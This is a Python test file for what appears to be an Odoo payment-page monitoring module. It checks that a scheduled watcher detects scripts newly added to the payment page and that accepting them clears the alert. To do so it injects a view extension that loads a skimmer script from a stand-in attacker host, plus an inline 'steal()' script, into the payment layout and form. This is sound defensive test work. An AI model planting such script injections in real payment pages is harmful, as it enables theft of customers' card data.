"""The daily look at the page on which clients pay, by a scheduled action of its own."""

import pytest
from editor import log_in
from playwright.sync_api import expect

EVIL = "https://evil.example.com/skimmer.js"
#: The look, at some address; what is listed and told then.
LOOK = """
import json
env["ir.config_parameter"].set_param("web.base.url", "%s")
env.cr.commit()
env["paynow.script"]._cron_watch()
env.cr.commit()
print(json.dumps([
    [[script.name, script.state] for script in env["paynow.script"].search([])],
    [str(activity.note) for activity in env["mail.activity"].search(
        [("summary", "like", "Pay Now: the payment page")])],
]))
"""
#: What who may change views puts on the page, with the mark that the policy asks for.
INJECT = """
import json
for view, code in {
    "paynow_module.layout": '<script t-att-nonce="csp_nonce" src="%s"/>',
    "payment.form": '<script t-att-nonce="csp_nonce">steal()</script>',
}.items():
    env["ir.ui.view"].create({
        "name": "Injected", "type": "qweb", "mode": "extension",
        "inherit_id": env.ref(view).id,
        "arch": f'<data><xpath expr="/*/*" position="before">{code}</xpath></data>',
    })
env.cr.commit()
env.registry.signal_changes()
print(json.dumps(None))
"""


@pytest.fixture
def look(shell):
    """A function that looks at the page at an address: entries, activities."""
    return lambda url: shell(LOOK % url)


def test_page_is_looked_at_through_the_door_and_from_within(server, look, shell, page):
    """The same is found twice, and by a server that can't reach itself."""
    entries, told = look(server.url)
    assert {state for _name, state in entries} == {"accepted"}
    assert "/paynow_module/static/src/frame/templates.js" in dict(entries)
    for url in (server.url, "http://localhost:9"):
        assert look(url) == [entries, []]

    shell(INJECT % EVIL)
    entries, [told] = look(server.url)
    assert [name for name, state in entries if state == "new"] == [EVIL, "steal()"]
    assert EVIL in told
    assert "steal()" in told
    assert look("http://localhost:9") == [entries, [told]]

    log_in(page)
    page.goto("/odoo/action-paynow_module.paynow_script_action")
    expect(page.get_by_text(EVIL)).to_be_visible()
    page.get_by_role("button", name="Accept").click()
    page.get_by_role("dialog").get_by_role("button", name="Ok").click()
    expect(page.get_by_text("Newly found", exact=True)).to_have_count(0)
    entries, told = look(server.url)
    assert {state for _name, state in entries} == {"accepted"}
    assert told == []
